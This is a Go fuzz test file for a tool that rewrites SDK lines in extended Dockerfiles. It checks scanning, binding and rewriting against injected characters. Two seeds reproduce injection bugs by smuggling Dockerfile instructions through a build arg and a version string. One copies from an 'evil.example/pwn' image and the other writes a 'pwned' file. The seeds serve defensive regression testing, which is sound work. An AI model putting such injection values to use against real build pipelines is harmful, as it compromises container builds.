package dockerfile

import (
	"bytes"
	"path"
	"regexp"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/pkg/errors"

	"github.com/sdkfront/sdkfront/resolver"
)

// Fuzz targets of the Dockerfile superset (make fuzz). Seeds are in
// testdata/fuzz/. Properties: no panics; SDK lines that scan are sound
// (a reference, an absolute directory); their rewrite is a Dockerfile that
// BuildKit parses, whose generated instructions parse too.

var fuzzArgs = map[string]string{"GO_VERSION": "1.23", "DIR": "/opt/go"}

// checkFile scans f strictly and leniently; if the strict scan succeeds,
// it rewrites it bound as a build binds it, and the lenient scan bound
// with placeholders as a check request does, and checks each rewrite
// (checkRewrite).
func checkFile(t *testing.T, f *File) {
	t.Helper()
	opts := ScanOpts{BuildArgs: fuzzArgs, Build: amd64, Target: arm64}
	lenient := opts
	lenient.Lenient = true
	ls, err := f.Scan(lenient)
	if err != nil {
		t.Fatalf("lenient scan failed: %v", err)
	}
	checkPlaceholders(t, f, ls)
	sr, err := f.Scan(opts)
	if err != nil {
		if len(ls.Errors) == 0 {
			t.Fatalf("strict scan fails (%v), lenient scan finds no error", err)
		}
		return
	}
	if len(ls.Errors) != 0 || len(ls.Uses) != len(sr.Uses) {
		t.Fatalf("strict scan passes, lenient scan has %d errors, %d uses (strict: %d)", len(ls.Errors), len(ls.Uses), len(sr.Uses))
	}
	for i := range sr.Stages {
		_, _ = sr.StagePlatform(i) // must not panic; the strict scan's errors are checked above
		sr.BaseImage(i)
	}
	for _, u := range sr.Uses {
		if u.RefText == "" || u.Ref.Platform == "" {
			t.Fatalf("use on line %d has no reference: %+v", u.Line(), u)
		}
		if u.VersionFile == nil {
			if _, err := resolver.ParseRef(u.RefText); err != nil {
				t.Fatalf("use on line %d: reference %q does not parse: %v", u.Line(), u.RefText, err)
			}
		}
		if u.Mount && u.Dest.IsZero() {
			t.Fatalf("mount on line %d has no target", u.Line())
		}
	}
	bind := func(u *Use) Binding {
		b, err := Bind(u, u.Ref.Platform, "1.23.4", "the fuzzer")
		if err != nil {
			t.Fatalf("binding %s to 1.23.4: %v", u.RefText, err)
		}
		return b
	}
	rw, err := f.Rewrite(sr.Uses, bind)
	if err != nil {
		if !splitFlag(err) {
			t.Fatalf("a scanned Dockerfile does not rewrite: %v", err)
		}
		return
	}
	checkRewrite(t, f, sr.Uses, bind, rw)
}

// checkPlaceholders rewrites a lenient scan as a check request does, and
// checks the rewrite.
func checkPlaceholders(t *testing.T, f *File, ls *Scan) {
	t.Helper()
	rw, err := f.Rewrite(ls.Uses, Placeholder)
	if err != nil {
		if !splitFlag(err) {
			t.Fatalf("placeholder rewrite: %v", err)
		}
		return
	}
	checkRewrite(t, f, ls.Uses, Placeholder, rw)
}

// splitFlag reports whether err is the one error a rewrite of scanned uses
// may have: an sdk mount flag that does not stand on one line.
func splitFlag(err error) bool {
	return strings.Contains(err.Error(), "keep each --mount=type=sdk flag on a single line")
}

// FuzzRead reads arbitrary bytes as a Dockerfile.
func FuzzRead(f *testing.F) {
	f.Add([]byte("# sdk-source=127.0.0.1:5000/sdks/{platform}:{flavor}-{version}\nFROM debian\nSDK golang@1.23\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		df, err := Read(data)
		if err != nil {
			return
		}
		if !bytes.Equal(df.Data, data) {
			t.Fatal("Data is not the input")
		}
		if !df.Moved() && !bytes.Equal(df.Text, data) {
			t.Fatal("Text differs from Data, but nothing moved")
		}
		_, _ = df.Settings(fuzzArgs) // must not panic, whatever it returns
		checkFile(t, df)
	})
}

// FuzzSDKMount scans RUN --mount=<input> true.
func FuzzSDKMount(f *testing.F) {
	f.Add("type=sdk,ref=golang@1.23,target=/opt/go")
	f.Fuzz(func(t *testing.T, s string) {
		df, err := Read([]byte("FROM a\nRUN --mount=" + s + " true\n"))
		if err != nil {
			return
		}
		checkFile(t, df)
	})
}

// FuzzSDKInstruction scans SDK <input>.
func FuzzSDKInstruction(f *testing.F) {
	f.Add("golang@1.23 --to=/opt/go")
	f.Fuzz(func(t *testing.T, s string) {
		df, err := Read([]byte("FROM a\nSDK " + s + "\n"))
		if err != nil {
			return
		}
		checkFile(t, df)
	})
}

// FuzzVersionFile parses a "file:" constraint and reads a version file of
// each kind: what it gives is a constraint sdkfront parses, and a parsed
// file path is clean and names a known file.
func FuzzVersionFile(f *testing.F) {
	f.Add(".python-version", "python", []byte("3.11.9\n"))
	f.Fuzz(func(t *testing.T, file, platform string, data []byte) {
		if vf, err := ParseVersionFile(file); err == nil {
			if vf.Path == "" || path.IsAbs(vf.Path) || path.Clean(vf.Path) != vf.Path || strings.HasPrefix(vf.Path, "../") || vf.Path == ".." || !knownVersionFile(path.Base(vf.Path)) {
				t.Fatalf("ParseVersionFile(%q) = %+v", file, vf)
			}
			again, err := ParseVersionFile(vf.String())
			if err != nil || again != vf {
				t.Fatalf("ParseVersionFile(%q) = %+v; its String %q parses as %+v, %v", file, vf, vf.String(), again, err)
			}
		}
		for _, name := range versionFileNames {
			c, err := VersionFile{Path: name}.Constraint(platform, data)
			if err != nil {
				continue
			}
			if _, err := resolver.ParseConstraint(c); err != nil || c == "" {
				t.Fatalf("%s gives %q, which is no constraint: %v", name, c, err)
			}
		}
	})
}

// fuzzChars are the characters every field of the invariant's seeds is
// tried with: the C0 controls, DEL, the unicode line and space separators
// a parser may split at, and what would end a quote, a CSV field or a
// word, or be expanded again.
func fuzzChars() []string {
	var cs []string
	for c := rune(0); c < 0x20; c++ {
		cs = append(cs, string(c))
	}
	return append(cs, "\x7f", "\u0085", "\u2028", "\u00a0", " ", `"`, "'", ",", "$", `\`, "`", "=", "\xff")
}

// invariantSeed is one way a value reaches an SDK line: a Dockerfile, the
// build arg X (if any) set to the value, or the value as the registry's
// version or a version file's content.
type invariantSeed struct {
	df   string
	arg  bool   // X=<value>
	how  string // "version" or "file": the value is that, not X
	pre  string // before the character
	post string // after it
}

var invariantSeeds = []invariantSeed{
	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${X} go version\n", arg: true, pre: "/sdk", post: "true"},
	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,source=${X} true\n", arg: true, pre: "bin", post: "x"},
	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@1.23.4,target=/go,flavor=${X} true\n", arg: true, pre: "book", post: "worm"},
	{df: "FROM a\nARG X\nRUN --mount=type=sdk,ref=golang@${X},target=/go true\n", arg: true, pre: "1.23", post: ""},
	{df: "FROM a\nARG X\nSDK golang@1.23 --to=${X}\nRUN go version\n", arg: true, pre: "/go", post: "x"},
	{df: "FROM a\nARG X\nSDK golang@1.23 --flavor=${X}\n", arg: true, pre: "book", post: "worm"},
	{df: "FROM a\nARG X\nSDK golang@${X}\n", arg: true, pre: "1.23", post: ""},
	{df: "FROM a\nSDK golang@1.23\nRUN go version\n", how: "version", pre: "1.23.4", post: "x"},
	{df: "FROM a\nSDK python@file:.python-version\n", how: "file", pre: "3.11", post: "9"},
}

// FuzzRewriteInvariant: for any Dockerfile, build args (NAME=value pairs
// separated by NUL), version the registry or lockfile answers, and version
// file content, either scanning, binding or rewriting fails, or the
// rewrite keeps the invariant (checkRewrite), and the directory of an SDK
// without --to= is /opt/<platform>/<version> exactly.
func FuzzRewriteInvariant(f *testing.F) {
	// The two reproductions of the review.
	f.Add("FROM a\nARG DIR\nRUN --mount=type=sdk,ref=golang@1.23.4,target=${DIR} go version\n",
		"DIR=/sdk\vtrue\nCOPY\v--from=evil.example/pwn:latest\v/\v/\nRUN", "1.23.4", "")
	f.Add("FROM a\nSDK golang@1.23\nRUN go version\n", "", "1.23.2\"\nRUN echo pwned > /pwned\nENV Z=\"", "")
	for _, s := range invariantSeeds {
		for _, c := range fuzzChars() {
			v := s.pre + c + s.post
			args, version, file := "", "1.23.4", "3.11.9"
			switch {
			case s.arg:
				args = "X=" + v
			case s.how == "version":
				version = v
			case s.how == "file":
				file = v
			}
			f.Add(s.df, args, version, file)
		}
	}
	// The characters written into the Dockerfile itself.
	for _, c := range fuzzChars() {
		f.Add("FROM a\nSDK golang@1.23 --to=/a"+c+"b\n", "", "1.23.4", "")
		f.Add("FROM a\nRUN --mount=type=sdk,ref=golang@1.23,target=/a"+c+"b,source=s"+c+"t true\n", "", "1.23.4", "")
	}
	f.Fuzz(func(t *testing.T, df, args, version, file string) {
		checkInvariant(t, df, args, version, file)
	})
}

// checkInvariant is FuzzRewriteInvariant's property.
func checkInvariant(t *testing.T, df, args, version, file string) {
	t.Helper()
	dockerfile, err := Read([]byte(df))
	if err != nil {
		return
	}
	build := map[string]string{}
	for _, kv := range strings.Split(args, "\x00") {
		if k, v, ok := strings.Cut(kv, "="); ok {
			build[k] = v
		}
	}
	opts := ScanOpts{BuildArgs: build, Build: amd64, Target: arm64}
	lenient := opts
	lenient.Lenient = true
	ls, err := dockerfile.Scan(lenient)
	if err != nil {
		t.Fatalf("lenient scan: %v", err)
	}
	checkPlaceholders(t, dockerfile, ls)

	sr, err := dockerfile.Scan(opts)
	if err != nil {
		return
	}
	bound := map[*Use]Binding{}
	for _, u := range sr.Uses {
		if u.VersionFile != nil {
			if err := u.SetConstraint(file); err != nil {
				return
			}
		}
		b, err := Bind(u, u.Ref.Platform, version, "the fuzzer")
		if safe := safeDirName(u.Ref.Platform) && safeDirName(version); u.Dest.IsZero() && (err == nil) != safe {
			t.Fatalf("Bind(%q, %q) = %v, but the directory name is safe: %v", u.Ref.Platform, version, err, safe)
		}
		if err != nil {
			var le *parser.LocationError
			if !errors.As(err, &le) || len(le.Locations) == 0 || le.Locations[0][0].Start.Line != u.Line() {
				t.Fatalf("Bind error %v is not at line %d", err, u.Line())
			}
			return
		}
		if u.Dest.IsZero() && b.Dest.String() != "/opt/"+u.Ref.Platform+"/"+version {
			t.Fatalf("default directory %q for %s and version %q", b.Dest, u.Ref.Platform, version)
		}
		bound[u] = b
	}
	bind := func(u *Use) Binding { return bound[u] }
	rw, err := dockerfile.Rewrite(sr.Uses, bind)
	if err != nil {
		if !splitFlag(err) {
			t.Fatalf("rewrite of bound uses: %v", err)
		}
		return
	}
	checkRewrite(t, dockerfile, sr.Uses, bind, rw)
}

// safeDirName is the test's own statement of what may name a directory.
func safeDirName(s string) bool {
	return regexp.MustCompile(`^[A-Za-z0-9._+@~-]+$`).MatchString(s) && s != "." && s != ".."
}
